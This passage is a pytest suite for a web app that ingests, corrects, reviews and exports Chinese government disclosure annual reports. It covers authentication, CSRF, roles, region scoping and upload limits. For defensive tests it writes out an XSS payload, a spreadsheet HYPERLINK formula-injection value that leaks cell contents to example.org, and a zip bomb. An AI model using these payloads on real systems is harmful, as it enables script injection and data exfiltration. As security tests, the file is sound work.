"""The REST API and the pages behind it, through FastAPI's test client on a real SQLite store.

A small workspace: generated reports of two agencies in two provinces over two years (one with a
planted arithmetic error), the bundled samples, and users of every role (one limited to a region).
"""

from __future__ import annotations

import csv
import io
import random
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402
from openpyxl import load_workbook  # noqa: E402
from sqlalchemy import select  # noqa: E402

import gknb  # noqa: E402
from conftest import SAMPLES  # noqa: E402
from gknb.analyze.stats import stats  # noqa: E402
from gknb.formats import FORMATS  # noqa: E402
from gknb.pipeline.bulk import ingest  # noqa: E402
from gknb.store.models import UserRow  # noqa: E402
from gknb.web.app import create_app  # noqa: E402
from gknb.web.uploads import Limits  # noqa: E402
from layouts import random_report, render  # noqa: E402

PASSWORD = "correct-horse-1"
AGENCIES = ("浙江省杭州市民政局", "广东省广州市财政局")
BROKEN = "requests.new.natural_person"  # +1 in 浙江 2022: breaks the 新收 row's total and the balance


def _report_files(folder: Path) -> dict[tuple[str, int], Path]:
    fmt = FORMATS["2021"]
    out = {}
    for n, agency in enumerate(AGENCIES):
        for year in (2022, 2023):
            rnd = random.Random(100 * n + year)
            cells = random_report(fmt, rnd)
            if agency.startswith("浙江") and year == 2022:
                cells[BROKEN] += 1
            text = render(fmt, cells, "tab", rnd, year=year, agency=agency, bare_review=False)
            path = folder / f"{agency}{year}.txt"
            path.write_text(text, encoding="utf-8")
            out[agency, year] = path
    return out


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, dict]]:
    folder = tmp_path_factory.mktemp("web")
    files = _report_files(folder)
    limits = Limits(max_files=5, max_file_bytes=2 * 1024 * 1024, max_total_bytes=4 * 1024 * 1024)
    app = create_app(f"sqlite:///{folder / 'gknb.db'}", upload_dir=folder / "uploads", limits=limits)
    work = app.state.workspace
    ingest(work.store, [str(p) for p in files.values()] + [str(SAMPLES)])
    work.add_user("admin", PASSWORD, role="admin")
    work.add_user("rev", PASSWORD, role="reviewer")
    work.add_user("view", PASSWORD, role="viewer")
    work.add_user("zj", PASSWORD, role="reviewer", region="浙江省")
    ids = {key: work.store.report_ids({"agency": key[0], "year": key[1]})[0] for key in files}
    with TestClient(app) as client:
        yield client, {"ids": ids, "files": files, "work": work, "folder": folder}


def sign_in(client: TestClient, name: str, password: str = PASSWORD) -> str:
    """Sign in through the login form; the CSRF token of the new session."""
    client.cookies.clear()
    form = client.get("/login").text
    token = re.search(r'name="csrf" value="([^"]+)"', form).group(1)
    answer = client.post("/login", data={"name": name, "password": password, "csrf": token, "next": "/"})
    assert answer.status_code == 200, answer.text
    return re.search(r'name="csrf-token" content="([^"]+)"', answer.text).group(1)


def detail(answer) -> dict:
    body = answer.json()["detail"]
    assert body["code"] and body["message"] and body["message_en"], body
    return body


# -- accounts, sessions, tokens, CSRF ------------------------------------------------------------

def test_signed_out_api_is_401_and_pages_redirect_to_login(workspace) -> None:
    client, _ = workspace
    client.cookies.clear()
    answer = client.get("/api/reports")
    assert answer.status_code == 401 and detail(answer)["code"] == "auth.required"
    page = client.get("/reports/1", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"].startswith("/login?next=/reports/1")


def test_wrong_password_is_refused_and_passwords_are_stored_hashed(workspace) -> None:
    client, ctx = workspace
    client.cookies.clear()
    form = client.get("/login").text
    token = re.search(r'name="csrf" value="([^"]+)"', form).group(1)
    answer = client.post("/login", data={"name": "admin", "password": "wrong-password", "csrf": token})
    assert answer.status_code == 401 and "用户名或密码不正确" in answer.text
    with ctx["work"].store.session() as session:
        hashes = list(session.scalars(select(UserRow.password_hash)))
    assert hashes and all(h.startswith("$argon2") and PASSWORD not in h for h in hashes)


def test_repeated_wrong_passwords_lock_the_name_for_a_while(workspace) -> None:
    client, _ = workspace
    client.cookies.clear()
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    tries = [client.post("/login", data={"name": "view", "password": f"wrong-{i}", "csrf": token}).status_code
             for i in range(5)]
    assert tries == [401] * 5
    locked = client.post("/login", data={"name": "view", "password": PASSWORD, "csrf": token})
    assert locked.status_code == 429 and "秒后再试" in locked.text
    assert client.post("/login", data={"name": "rev", "password": PASSWORD, "csrf": token}).status_code == 200
    client.app.state.sign_in_throttle.succeeded("view")  # as if the minute had passed
    sign_in(client, "view")


def test_login_without_csrf_token_is_refused(workspace) -> None:
    client, _ = workspace
    client.cookies.clear()
    client.get("/login")
    answer = client.post("/login", data={"name": "admin", "password": PASSWORD})
    assert answer.status_code == 403


def test_state_changes_need_the_csrf_token_but_api_tokens_do_not(workspace) -> None:
    client, ctx = workspace
    report_id = ctx["ids"]["广东省广州市财政局", 2023]
    csrf = sign_in(client, "rev")
    refused = client.post(f"/api/reports/{report_id}/review", json={"status": "approved"})
    assert refused.status_code == 403 and detail(refused)["code"] == "auth.csrf"
    wrong = client.post(f"/api/reports/{report_id}/review", json={"status": "approved"},
                        headers={"X-CSRF-Token": "x" + csrf})
    assert wrong.status_code == 403
    done = client.post(f"/api/reports/{report_id}/review", json={"status": "approved"}, headers={"X-CSRF-Token": csrf})
    assert done.status_code == 200 and done.json()["review_status"] == "approved"

    token = client.post("/api/tokens", json={"name": "脚本"}, headers={"X-CSRF-Token": csrf}).json()["token"]
    client.cookies.clear()
    bearer = {"Authorization": f"Bearer {token}"}
    again = client.post(f"/api/reports/{report_id}/review", json={"status": "pending"}, headers=bearer)
    assert again.status_code == 200 and again.json()["review_status"] == "pending"
    assert client.get("/api/me", headers=bearer).json()["name"] == "rev"
    listed = client.get("/api/tokens", headers=bearer).json()
    assert [t["name"] for t in listed] == ["脚本"] and listed[0]["last_used"] is not None
    assert "token" not in listed[0] and token not in str(listed)
    assert client.delete(f"/api/tokens/{listed[0]['id']}", headers=bearer).status_code == 204
    assert client.get("/api/me", headers=bearer).status_code == 401


def test_roles(workspace) -> None:
    client, ctx = workspace
    report_id = ctx["ids"]["广东省广州市财政局", 2022]
    csrf = sign_in(client, "view")
    headers = {"X-CSRF-Token": csrf}
    assert client.get(f"/api/reports/{report_id}").status_code == 200
    cell = client.put(f"/api/reports/{report_id}/cells/requests.new.total",
                      json={"value": "1", "comment": "x", "revision": 0}, headers=headers)
    assert cell.status_code == 403 and detail(cell)["code"] == "auth.forbidden"
    assert client.post("/api/uploads", data={"urls": "https://example.org/a.html"}, headers=headers).status_code == 403
    assert client.get("/api/users").status_code == 403
    assert "correct-form" not in client.get(f"/reports/{report_id}").text

    csrf = sign_in(client, "admin")
    made = client.post("/api/users", json={"name": "new", "password": "short", "role": "viewer"},
                       headers={"X-CSRF-Token": csrf})
    assert made.status_code == 400 and "8" in detail(made)["message"]
    made = client.post("/api/users", json={"name": "新用户", "password": PASSWORD, "role": "reviewer",
                                           "region": "广东省"}, headers={"X-CSRF-Token": csrf})
    assert made.status_code == 201 and made.json()["region"] == "广东省"
    assert "新用户" in [u["name"] for u in client.get("/api/users").json()]
    off = client.patch("/api/users/新用户", json={"active": False}, headers={"X-CSRF-Token": csrf})
    assert off.status_code == 200
    assert "新用户" not in [u["name"] for u in client.get("/api/users").json()]


def test_region_scope_limits_what_a_user_sees(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "zj")
    listing = client.get("/api/reports").json()
    assert listing["total"] == 2 and {i["province"] for i in listing["items"]} == {"浙江省"}
    other = ctx["ids"]["广东省广州市财政局", 2022]
    assert client.get(f"/api/reports/{other}").status_code == 404
    assert client.get(f"/api/reports/{other}/original").status_code == 404
    assert client.get(f"/api/compare?a={ctx['ids']['浙江省杭州市民政局', 2022]}&b={other}").status_code == 404
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").content.decode("utf-8-sig"))))
    assert len(rows) == 2 and {r["province"] for r in rows} == {"浙江省"}
    assert client.get("/api/facets").json()["province"] == ["浙江省"]
    assert "广州" not in client.get("/").text


# -- the report list -----------------------------------------------------------------------------

def test_list_filters_sorts_and_counts(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    everything = client.get("/api/reports").json()
    assert everything["total"] == 4 + 3
    assert everything["with_errors"] == len([i for i in everything["items"] if i["errors"]]) >= 1
    errors = client.get("/api/reports", params={"has_errors": "true"}).json()
    assert ctx["ids"]["浙江省杭州市民政局", 2022] in [i["id"] for i in errors["items"]]
    assert all(i["errors"] > 0 for i in errors["items"]) and errors["total"] == everything["with_errors"]
    clean = client.get("/api/reports", params={"has_errors": "false"}).json()
    assert clean["total"] + errors["total"] == everything["total"]
    by_year = client.get("/api/reports", params={"year": 2023, "template": "2021"}).json()
    assert by_year["total"] == 2 and {i["year"] for i in by_year["items"]} == {2023}
    ordered = client.get("/api/reports", params={"sort": "year", "desc": "true"}).json()["items"]
    years = [i["year"] or 0 for i in ordered]
    assert years == sorted(years, reverse=True)
    paged = client.get("/api/reports", params={"per_page": 3, "page": 3}).json()
    assert len(paged["items"]) == 1 and paged["total"] == 7
    bad = client.get("/api/reports", params={"sort": "password"})
    assert bad.status_code == 400
    blank = client.get("/api/reports", params={"year": "", "province": " ", "has_errors": ""}).json()
    assert blank["total"] == everything["total"]  # an empty field is no filter
    found = client.get("/api/reports", params={"search": "杭州"}).json()
    assert {i["agency"] for i in found["items"]} == {"浙江省杭州市民政局"}
    assert client.get("/api/reports", params={"search": "%"}).json()["total"] == 0  # not a wildcard
    page = client.get("/", params={"year": "二〇二三"})
    assert page.status_code == 422 and page.headers["content-type"].startswith("text/html") and "请求参数有误" in page.text
    assert sum(everything["by_status"].values()) == everything["total"]
    page = client.get("/", params={"has_errors": "true"}).text
    assert f'data-id="{ctx["ids"]["浙江省杭州市民政局", 2022]}"' in page


# -- a report: read, source, correct, review -----------------------------------------------------

def test_report_json_follows_the_contract_and_downloads(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    report_id = ctx["ids"]["广东省广州市财政局", 2023]
    data = client.get(f"/api/reports/{report_id}").json()
    assert data["meta"]["agency"] == "广东省广州市财政局" and data["meta"]["year"] == 2023
    assert set(data) >= {"source", "meta", "sections", "cells", "provenance", "findings", "review_status", "audit"}
    original = client.get(f"/api/reports/{report_id}/original")
    assert original.content == ctx["files"]["广东省广州市财政局", 2023].read_bytes()
    dumped = client.get(f"/api/reports/{report_id}/json")
    assert dumped.json()["cells"] == data["cells"]
    markdown = client.get(f"/api/reports/{report_id}/render/md")
    assert gknb.read(markdown.content, name="x.md").cells == gknb.read(original.content, name="x.txt").cells
    docx = client.get(f"/api/reports/{report_id}/render/docx")
    assert docx.status_code == 200 and zipfile.is_zipfile(io.BytesIO(docx.content))
    assert client.get(f"/api/reports/{report_id}/render/exe").status_code == 404


def test_cell_source_is_the_printed_line(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    report_id = ctx["ids"]["广东省广州市财政局", 2023]
    data = client.get(f"/api/reports/{report_id}").json()
    source = client.get(f"/api/reports/{report_id}/source/requests.new.natural_person").json()
    assert source["kind"] == "lines"
    hit = next(line for line in source["lines"] if line["hit"])
    lines = ctx["files"]["广东省广州市财政局", 2023].read_text(encoding="utf-8").splitlines()
    assert lines[hit["line"] - 1] == hit["text"] and "本年新收" in hit["text"]
    assert hit["cells"][hit["col"]] == str(data["cells"]["requests.new.natural_person"])


def test_correcting_a_cell_reruns_the_checks_and_keeps_an_audit_trail(workspace) -> None:
    client, ctx = workspace
    report_id = ctx["ids"]["浙江省杭州市民政局", 2022]
    csrf = sign_in(client, "zj")
    headers = {"X-CSRF-Token": csrf}
    before = client.get(f"/api/reports/{report_id}").json()
    assert any(BROKEN in f["cells"] and f["severity"] == "error" for f in before["findings"])
    seen = {"revision": before["revision"], "comment": "按原件更正"}
    wrong = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": "十二", **seen}, headers=headers)
    assert wrong.status_code == 400 and detail(wrong)["code"] == "workspace.invalid"
    unknown = client.put(f"/api/reports/{report_id}/cells/requests.nope.total", json={"value": "1", **seen},
                         headers=headers)
    assert unknown.status_code == 400
    old = before["cells"][BROKEN]
    fixed = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": str(old - 1), **seen},
                       headers=headers).json()
    assert fixed["cells"][BROKEN] == old - 1
    assert not [f for f in fixed["findings"] if f["severity"] == "error"]
    assert fixed["audit"][-1] | {"at": None, "id": None} == {
        "id": None, "at": None, "user": "zj", "action": "cell", "target": BROKEN, "old": str(old),
        "new": str(old - 1), "comment": "按原件更正"}
    listed = client.get("/api/reports", params={"has_errors": "true"}).json()
    assert report_id not in [i["id"] for i in listed["items"]]
    stored = ctx["work"].store.load(report_id)
    assert stored.cells[BROKEN] == old - 1  # kept in the store, not only in the answer


def test_correcting_meta_and_review_status(workspace) -> None:
    client, ctx = workspace
    report_id = ctx["ids"]["广东省广州市财政局", 2022]
    csrf = sign_in(client, "rev")
    headers = {"X-CSRF-Token": csrf}
    seen = {"revision": client.get(f"/api/reports/{report_id}").json()["revision"], "comment": "年度印错"}
    moved = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2019", **seen}, headers=headers).json()
    assert moved["meta"]["year"] == 2019
    assert "format.year_mismatch" in {f["rule"] for f in moved["findings"]}
    seen["revision"] = moved["revision"]
    back = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2022", **seen}, headers=headers).json()
    assert "format.year_mismatch" not in {f["rule"] for f in back["findings"]}
    seen["revision"] = back["revision"]
    bad = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "明年", **seen}, headers=headers)
    assert bad.status_code == 400
    assert client.put(f"/api/reports/{report_id}/meta/source", json={"value": "x", **seen},
                      headers=headers).status_code == 400

    refused = client.post(f"/api/reports/{report_id}/review", json={"status": "returned"}, headers=headers)
    assert refused.status_code == 400 and "原因" in detail(refused)["message"]
    returned = client.post(f"/api/reports/{report_id}/review", json={"status": "returned", "comment": "表三合计有误"},
                           headers=headers).json()
    assert returned["review_status"] == "returned"
    trail = client.get(f"/api/reports/{report_id}/audit").json()
    assert [(a["action"], a["target"], a["old"], a["new"]) for a in trail] == [
        ("meta", "year", "2022", "2019"), ("meta", "year", "2019", "2022"),
        ("review", "review_status", "pending", "returned")]
    assert trail[-1]["comment"] == "表三合计有误" and all(a["user"] == "rev" for a in trail)
    assert client.get("/api/reports", params={"review_status": "returned"}).json()["total"] == 1


# -- compare, dashboard, export ------------------------------------------------------------------

def test_compare_two_years(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    a, b = ctx["ids"]["广东省广州市财政局", 2022], ctx["ids"]["广东省广州市财政局", 2023]
    data = client.get("/api/compare", params={"a": a, "b": b}).json()
    first, second = (client.get(f"/api/reports/{i}").json()["cells"] for i in (a, b))
    assert {d["key"] for d in data["cells"]} == {k for k in first if first[k] != second.get(k)}
    page = client.get("/compare", params={"a": a, "b": b}).text
    assert page.count('class="cell changed') + page.count("changed\"") >= 2 * len(data["cells"]) > 0


def test_dashboard_data_and_chart_csv(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    charts = client.get("/api/dashboard").json()
    assert set(charts) == {"by_year", "outcomes", "agencies", "regions", "levels"}
    work = ctx["work"]
    expected = sum(work.store.load(i).cells["requests.new.total"] for i in ctx["ids"].values() if
                   work.store.load(i).meta.year == 2023)
    by_year = {row[0]: row for row in charts["by_year"]["rows"]}
    assert by_year[2023][1] == expected
    assert {row[0] for row in charts["agencies"]["rows"]} == set(AGENCIES)
    by_province = stats(work.store, ["province"])  # the charts roll one grouping up: same numbers
    assert charts["regions"]["rows"] == [[r["province"] or "未识别", r["reports"], r["with_errors"], r["error_rate"]]
                                         for r in by_province]
    exported = client.get("/api/dashboard/agencies.csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0] == charts["agencies"]["columns"] and len(rows) == 1 + len(charts["agencies"]["rows"])
    assert client.get("/api/dashboard/nothing.csv").status_code == 404
    assert '<script src="/static/vendor/echarts.min.js"' in client.get("/dashboard").text
    assert client.get("/static/vendor/echarts.min.js").status_code == 200


def test_export_of_the_current_filter(workspace) -> None:
    client, _ = workspace
    sign_in(client, "admin")
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv", params={"year": 2023}).content
                                           .decode("utf-8-sig"))))
    assert len(rows) == 2 and {r["year"] for r in rows} == {"2023"}
    book = load_workbook(io.BytesIO(client.get("/api/export.xlsx", params={"province": "广东省"}).content))
    header, keys, *data = book["报告"].iter_rows(values_only=True)
    assert len(data) == 2 and {row[keys.index("province")] for row in data} == {"广东省"}
    assert client.get("/api/export.exe").status_code == 404


def test_export_carries_the_review_status_and_comment(workspace) -> None:
    client, ctx = workspace
    csrf = sign_in(client, "admin")
    report_id = ctx["ids"]["广东省广州市财政局", 2022]
    for status, comment in (("returned", "表三数据请核对"), ("approved", "已按原件核对无误")):
        answer = client.post(f"/api/reports/{report_id}/review", json={"status": status, "comment": comment},
                             headers={"X-CSRF-Token": csrf})
        assert answer.status_code == 200, answer.text
    rows = {r["report_id"]: r for r in csv.DictReader(io.StringIO(
        client.get("/api/export.csv").content.decode("utf-8-sig")))}
    assert rows[str(report_id)]["review_status"] == "approved"
    assert rows[str(report_id)]["review_comment"] == "已按原件核对无误"  # the latest decision's
    book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
    header, keys, *data = book["报告"].iter_rows(values_only=True)
    row = next(r for r in data if r[0] == report_id)
    assert row[header.index("审核状态")] == "已审核" and row[header.index("审核意见")] == "已按原件核对无误"
    others = [r for r in data if r[0] != report_id]
    assert others and all(r[header.index("审核意见")] is None for r in others if r[header.index("审核状态")] == "待审核")


# -- uploads -------------------------------------------------------------------------------------

def wait_done(client: TestClient, upload_id: str) -> dict:
    for _ in range(600):
        state = client.get(f"/api/uploads/{upload_id}").json()
        if state["state"] == "done":
            return state
        time.sleep(0.1)
    raise AssertionError(f"upload {upload_id} not done: {state}")


def test_upload_files_zip_and_urls_with_per_file_results(workspace) -> None:
    client, ctx = workspace
    csrf = sign_in(client, "rev")
    fmt = FORMATS["2021"]
    rnd = random.Random(7)
    new = render(fmt, random_report(fmt, rnd), "pipe_rows", rnd, year=2023, agency="江苏省南京市教育局")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("a/南京2023.txt", new)
        bundle.writestr("a/说明.txt", "这不是年度报告。")
    files = [("files", ("南京.zip", archive.getvalue(), "application/zip")),
             ("files", ("样例.txt", (SAMPLES / "000_a5586f6eb40696d9.txt").read_bytes(), "text/plain")),
             ("files", ("表格.xlsx", b"PK\x03\x04" + b"xl/workbook.xml" + b"\0" * 100, "application/octet-stream")),
             ("files", ("空.txt", b"", "text/plain"))]
    answer = client.post("/api/uploads", files=files, data={"urls": "not a url\n"}, headers={"X-CSRF-Token": csrf})
    assert answer.status_code == 200, answer.text
    first = answer.json()
    refused = {f["name"]: f["error"]["code"] for f in first["files"] if f["status"] == "failed"}
    assert refused == {"表格.xlsx": "file.unsupported", "空.txt": "file.unreadable", "not a url": "upload.bad_url"}
    done = wait_done(client, first["id"])
    by_name = {f["name"]: f for f in done["files"]}
    assert by_name["样例.txt"]["status"] == "duplicate"
    members = {m["name"]: m for m in by_name["南京.zip"]["members"]}
    assert members["a/南京2023.txt"]["status"] == "stored"
    assert members["a/说明.txt"]["status"] == "failed" and members["a/说明.txt"]["error"]["message_en"]
    stored = client.get(f"/api/reports/{members['a/南京2023.txt']['report_id']}").json()
    assert stored["meta"]["agency"] == "江苏省南京市教育局"
    assert first["id"] in [u["id"] for u in client.get("/api/uploads").json()]
    assert not list((ctx["folder"] / "uploads").glob(f"{first['id']}/*"))  # nothing left behind


def test_upload_bounds(workspace) -> None:
    client, _ = workspace
    csrf = sign_in(client, "rev")
    headers = {"X-CSRF-Token": csrf}
    many = [("files", (f"{i}.txt", "年度报告".encode(), "text/plain")) for i in range(6)]
    too_many = client.post("/api/uploads", files=many, headers=headers)
    assert too_many.status_code == 413 and detail(too_many)["code"] == "upload.too_many"
    big = client.post("/api/uploads", files=[("files", ("big.txt", b"a" * (5 * 1024 * 1024 + 10), "text/plain"))],
                      headers=headers)
    assert big.status_code == 413 and detail(big)["code"] == "upload.too_large"
    large = client.post("/api/uploads", files=[("files", ("big.txt", b"a" * (2 * 1024 * 1024 + 10), "text/plain"))],
                        headers=headers).json()
    assert large["files"][0]["error"]["code"] == "upload.too_large"
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("huge.txt", b"0" * (50 * 1024 * 1024))  # larger than any report may be
        bundle.writestr("dense.txt", b"0" * (15 * 1024 * 1024))  # ~1000:1, a zip bomb's ratio
    sent = client.post("/api/uploads", files=[("files", ("bomb.zip", bomb.getvalue(), "application/zip"))],
                       headers=headers).json()
    members = {m["name"]: m for m in wait_done(client, sent["id"])["files"][0]["members"]}
    assert {name: m["status"] for name, m in members.items()} == {"huge.txt": "failed", "dense.txt": "failed"}
    assert members["huge.txt"]["error"]["code"] == "zip.member_too_large"
    assert members["dense.txt"]["error"]["code"].startswith("zip.")
    empty = client.post("/api/uploads", data={"urls": ""}, headers=headers)
    assert empty.status_code == 400


# -- escaping, OpenAPI ---------------------------------------------------------------------------

def test_report_text_is_escaped_on_every_page(workspace) -> None:
    client, ctx = workspace
    csrf = sign_in(client, "admin")
    report_id = ctx["ids"]["广东省广州市财政局", 2023]
    evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    revision = client.get(f"/api/reports/{report_id}").json()["revision"]
    client.put(f"/api/reports/{report_id}/meta/title", json={"value": evil, "comment": evil, "revision": revision},
               headers={"X-CSRF-Token": csrf})
    for url in (f"/reports/{report_id}", "/?year=2023"):
        page = client.get(url)
        assert evil not in page.text and "<script>alert" not in page.text
        assert "script-src 'self'" in page.headers["content-security-policy"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in client.get(f"/reports/{report_id}").text


def test_openapi_documents_the_api(workspace) -> None:
    client, _ = workspace
    paths = client.get("/api/openapi.json").json()["paths"]
    for path in ("/api/reports", "/api/reports/{report_id}", "/api/reports/{report_id}/cells/{key}",
                 "/api/reports/{report_id}/review", "/api/uploads", "/api/compare", "/api/dashboard",
                 "/api/export.{kind}", "/api/users", "/api/tokens"):
        assert path in paths, path
    assert "/login" not in paths


# -- trust (issue 13): each attack of the review, as a request --------------------------------------

def _put(client: TestClient, report_id: int, what: str, value: str, headers: dict, **extra) -> object:
    revision = client.get(f"/api/reports/{report_id}").json()["revision"]
    return client.put(f"/api/reports/{report_id}/{what}", json={"value": value, "comment": "核对原件",
                                                                "revision": revision, **extra}, headers=headers)


def test_scoped_reviewer_cannot_reach_another_region_through_cross_year_checks(workspace) -> None:
    client, ctx = workspace
    headers = {"X-CSRF-Token": sign_in(client, "zj")}
    mine, theirs = ctx["ids"]["浙江省杭州市民政局", 2023], ctx["ids"]["广东省广州市财政局", 2022]
    before, trail = ctx["work"].store.load(theirs).findings, ctx["work"].audit(theirs)
    refused = _put(client, mine, "meta/agency", "广东省广州市财政局", headers)
    assert refused.status_code == 403 and detail(refused)["code"] == "workspace.out_of_scope"
    assert ctx["work"].store.load(mine).meta.agency == "浙江省杭州市民政局"
    assert ctx["work"].store.load(theirs).findings == before and ctx["work"].audit(theirs) == trail


def test_a_stale_correction_is_409_with_the_current_value_and_a_reason_is_required(workspace) -> None:
    client, ctx = workspace
    headers = {"X-CSRF-Token": sign_in(client, "rev")}
    report_id = ctx["ids"]["广东省广州市财政局", 2023]
    key = "requests.new.research"
    seen = client.get(f"/api/reports/{report_id}").json()
    first = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
                       json={"value": "7", "comment": "第一人", "revision": seen["revision"]})
    assert first.status_code == 200 and first.json()["revision"] == seen["revision"] + 1
    second = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
                        json={"value": "9", "comment": "第二人", "revision": seen["revision"]})
    body = detail(second)
    assert second.status_code == 409 and body["code"] == "workspace.conflict"
    assert body["current"] == "7" and body["revision"] == seen["revision"] + 1
    blank = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
                       json={"value": "9", "comment": " ", "revision": body["revision"]})
    assert blank.status_code == 400 and "原因" in detail(blank)["message"]
    missing = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers, json={"value": "9"})
    assert missing.status_code == 422
    page = client.get(f"/reports/{report_id}").text  # the corrected cell is marked in the table
    assert re.search(rf'<td class="cell [^"]*corrected[^"]*" data-key="{re.escape(key)}"', page)
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").content.decode("utf-8-sig"))))
    assert next(r for r in rows if r["report_id"] == str(report_id))["corrected"].split() == [key]
    book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
    sheet = book["三、依申请公开"]
    column = [c.value for c in sheet[2]].index(key) + 1
    row = next(r for r in range(3, sheet.max_row + 1) if sheet.cell(r, 1).value == report_id)
    assert sheet.cell(row, column).comment is not None and sheet.cell(row, column).value == 7


def test_sessions_end_at_logout_and_at_a_password_change(workspace) -> None:
    client, ctx = workspace
    csrf = sign_in(client, "view")
    cookie = client.cookies.get("gknb_session")
    assert client.get("/api/me").status_code == 200
    client.post("/logout", data={"csrf": csrf}, follow_redirects=False)
    client.cookies.set("gknb_session", cookie)  # the cookie kept by someone else
    assert client.get("/api/me").status_code == 401
    sign_in(client, "view")
    cookie = client.cookies.get("gknb_session")
    ctx["work"].update_user("view", password=PASSWORD)  # a password change (to the same, here)
    client.cookies.set("gknb_session", cookie)
    assert client.get("/api/me").status_code == 401


def test_sign_in_is_throttled_per_client_address_as_well(workspace) -> None:
    client, _ = workspace
    throttle = client.app.state.sign_in_throttle
    throttle._state.clear()  # the earlier tests' failures from this address forgotten
    client.cookies.clear()
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    try:
        codes = [client.post("/login", data={"name": f"guess{i}", "password": "wrong-pass", "csrf": token}).status_code
                 for i in range(throttle.address_failures + 2)]
        assert codes[:throttle.address_failures] == [401] * throttle.address_failures
        assert codes[throttle.address_failures:] == [429, 429]  # new names, same address
        assert client.post("/login", data={"name": "rev", "password": PASSWORD, "csrf": token}).status_code == 429
    finally:
        throttle._state.clear()  # as if the minute had passed


def test_exports_do_not_run_text_as_formulas(workspace) -> None:
    client, ctx = workspace
    headers = {"X-CSRF-Token": sign_in(client, "admin")}
    report_id = ctx["ids"]["广东省广州市财政局", 2022]
    evil = '=HYPERLINK("http://example.org/?"&A2,"点击")'
    assert _put(client, report_id, "meta/agency", evil, headers).status_code == 200
    try:
        book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == evil]
        assert len(cells) >= 4 and all(c.data_type == "s" for c in cells)
        text = client.get("/api/export.csv").content.decode("utf-8-sig")
        assert "'" + evil.replace('"', '""') in text and f",{evil.replace(chr(34), chr(34) * 2)}" not in text
    finally:
        _put(client, report_id, "meta/agency", "广东省广州市财政局", headers)


def test_huge_integers_are_422_not_500(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    report_id = ctx["ids"]["广东省广州市财政局", 2022]
    for url in (f"/api/reports/{2**63}", f"/api/reports/{2**31}", f"/api/reports/{report_id}/pages/{2**63}.png",
                f"/api/reports?year={2**63}", f"/api/compare?a={2**63}&b={report_id}", f"/api/reports?page={2**63}",
                f"/reports/{2**63}", f"/?page={2**63}"):
        assert client.get(url).status_code == 422, url


def test_uploads_outside_the_scope_are_refused_without_revealing_other_regions(workspace) -> None:
    client, ctx = workspace
    headers = {"X-CSRF-Token": sign_in(client, "zj")}
    fmt = FORMATS["2021"]
    rnd = random.Random(31)
    elsewhere = render(fmt, random_report(fmt, rnd), "tab", rnd, year=2023, agency="江苏省苏州市民政局").encode()
    known = ctx["files"]["广东省广州市财政局", 2023].read_bytes()  # stored already, in 广东
    sent = client.post("/api/uploads", headers=headers, files=[
        ("files", ("其他省.txt", known, "text/plain")), ("files", ("江苏.txt", elsewhere, "text/plain"))]).json()
    done = {f["name"]: f for f in wait_done(client, sent["id"])["files"]}
    assert {name: (f["status"], f["error"]["code"]) for name, f in done.items()} == {
        "其他省.txt": ("failed", "upload.out_of_scope"), "江苏.txt": ("failed", "upload.out_of_scope")}
    assert all(f.get("report_id") is None for f in done.values())
    assert ctx["work"].store.report_ids({"agency": "江苏省苏州市民政局"}) == []


def test_a_url_given_twice_is_refused_and_the_upload_finishes(workspace) -> None:
    client, _ = workspace
    headers = {"X-CSRF-Token": sign_in(client, "rev")}
    url = "http://127.0.0.1:9/a.html"
    sent = client.post("/api/uploads", data={"urls": f"{url}\n{url}\n"}, headers=headers).json()
    assert [f["status"] for f in sent["files"]] == ["queued", "failed"]
    assert sent["files"][1]["error"]["code"] == "upload.repeated"
    done = wait_done(client, sent["id"])
    assert done["files"][0]["status"] == "failed" and done["state"] == "done"


def test_the_last_admin_stays_and_a_scope_must_name_a_region(workspace) -> None:
    client, _ = workspace
    headers = {"X-CSRF-Token": sign_in(client, "admin")}
    last = client.patch("/api/users/admin", json={"active": False}, headers=headers)
    assert last.status_code == 400 and "last active admin" in detail(last)["message_en"]
    nowhere = client.post("/api/users", json={"name": "sd", "password": PASSWORD, "region": "山东"}, headers=headers)
    assert nowhere.status_code == 400 and "山东省" in detail(nowhere)["message"]
    assert client.get("/api/me").json()["name"] == "admin"


def test_database_errors_are_answered_clearly_and_damage_is_found_at_start(tmp_path: Path) -> None:
    import sqlite3

    from gknb.store.health import DatabaseDamaged

    db = tmp_path / "broken.db"
    app = create_app(f"sqlite:///{db}", upload_dir=tmp_path / "up")
    work = app.state.workspace
